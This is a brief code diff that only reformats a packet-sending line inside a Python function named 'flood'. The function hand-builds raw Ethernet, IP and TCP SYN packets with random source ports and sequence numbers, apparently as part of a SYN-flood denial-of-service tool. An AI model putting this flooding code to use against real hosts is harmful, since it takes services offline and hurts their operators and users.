@@ -211,9 +211,9 @@ def flood(interface, mac, address, port, count):
         sport, seq = dice.randrange(1024, 65536), dice.getrandbits(32)
         tcp = tcp_sum + high + low + sport + (seq >> 16) + (seq & 0xffff)
         try:
-            s.send(ethernet + ip[:10] + struct.pack("!HHH", folded(ip_sum + high + low), high, low) +
-                   to + struct.pack("!HHIIHHHH", sport, port, seq, 0, 0x5002, 0xffff,
-                                    folded(tcp), 0))
+            s.send(ethernet + ip[:10] +
+                   struct.pack("!HHH", folded(ip_sum + high + low), high, low) + to +
+                   struct.pack("!HHIIHHHH", sport, port, seq, 0, 0x5002, 0xffff, folded(tcp), 0))
             sent += 1
         except OSError:  # no room for it just now
             pass
